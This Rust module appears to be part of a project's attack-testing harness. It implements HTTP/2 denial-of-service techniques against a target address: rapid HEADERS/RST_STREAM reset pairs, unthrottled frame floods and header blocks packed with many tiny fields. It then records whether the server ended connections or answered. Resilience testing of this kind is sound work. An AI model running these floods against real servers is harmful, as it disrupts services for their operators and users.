//! Attacks over HTTP/2, and what all attacks share.

use std::{io, net::SocketAddr, time::Duration};

use llmesh::base::time::sleep;
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::TcpStream,
    time::timeout,
};

use super::frames;

/// What an attack left behind.
pub(crate) struct Outcome {
    pub(crate) connections: usize,
    /// Bytes the attackers wrote.
    pub(crate) sent: usize,
    /// How it ended, in words.
    pub(crate) end: String,
}

pub(crate) type Sockets = Vec<TcpStream>;

/// Writes what is taken within a moment; how much that was.
pub(crate) async fn write_within(socket: &mut TcpStream, bytes: &[u8]) -> usize {
    let mut done = 0;
    while done < bytes.len() {
        match timeout(Duration::from_millis(50), socket.write(&bytes[done..])).await {
            Ok(Ok(n)) if n > 0 => done += n,
            _ => break,
        }
    }
    done
}

/// HEADERS and RST_STREAM of the n-th stream of a client.
pub(crate) fn reset_pair(n: usize) -> Vec<u8> {
    let id = stream_id(n);
    let mut pair = frames::headers(id, "/late", true);
    pair.extend(frames::reset(id));
    pair
}

fn stream_id(n: usize) -> u32 {
    u32::try_from(2 * n + 1).unwrap_or(u32::MAX >> 1)
}

/// Frames as fast as they are taken, the n-th as `frame` makes it.
pub(crate) async fn h2(
    to: SocketAddr,
    first: &[u8],
    frame: impl Fn(usize) -> Vec<u8>,
    times: usize,
) -> io::Result<(Sockets, Outcome)> {
    let mut socket = TcpStream::connect(to).await?;
    let mut sent = write_within(&mut socket, &frames::hello()).await;
    sent += write_within(&mut socket, first).await;
    let mut frames_sent = 0;
    for n in 0..times {
        let bytes = frame(n);
        let wrote = write_within(&mut socket, &bytes).await;
        sent += wrote;
        if wrote < bytes.len() {
            break;
        }
        frames_sent += 1;
    }
    let over = went_away(&mut socket).await;
    let end = format!("{over} ({frames_sent} written)");
    Ok((
        vec![socket],
        Outcome {
            connections: 1,
            sent,
            end,
        },
    ))
}

/// Requests of very many very small fields, to an upstream that is slow to answer.
pub(crate) async fn bombs(
    to: SocketAddr,
    connections: usize,
    streams: usize,
    fields: usize,
) -> io::Result<(Sockets, Outcome)> {
    let (mut sockets, mut sent) = (Vec::new(), 0);
    for _ in 0..connections {
        let mut socket = TcpStream::connect(to).await?;
        sent += write_within(&mut socket, &frames::hello()).await;
        for i in 0..streams {
            let head = frames::bomb(stream_id(i), "/never", fields);
            let wrote = write_within(&mut socket, &head).await;
            sent += wrote;
            if wrote < head.len() {
                break;
            }
        }
        sockets.push(socket);
    }
    sleep(Duration::from_millis(500)).await;
    let mut answers = 0;
    for socket in &mut sockets {
        answers += answered(socket).await;
    }
    let end = format!("{answers} answered within 0.5 s");
    Ok((
        sockets,
        Outcome {
            connections,
            sent,
            end,
        },
    ))
}

/// Whether the other side has ended an HTTP/2 connection.
async fn went_away(socket: &mut TcpStream) -> &'static str {
    let mut all = Vec::new();
    let read = timeout(Duration::from_millis(500), socket.read_to_end(&mut all)).await;
    if read.is_ok() { "ended" } else { "kept" }
}

/// HEADERS frames that have come.
async fn answered(socket: &mut TcpStream) -> usize {
    let mut all = Vec::new();
    // What came until then stays in the buffer.
    let _ = timeout(Duration::from_millis(100), socket.read_to_end(&mut all)).await;
    let (mut rest, mut answers) = (&all[..], 0);
    while let Some((head, more)) = rest.split_at_checked(9) {
        let length = u32::from_be_bytes([0, head[0], head[1], head[2]]);
        answers += usize::from(head[3] == 1);
        let length = usize::try_from(length).unwrap_or(usize::MAX);
        rest = more.get(length..).unwrap_or_default();
    }
    answers
}
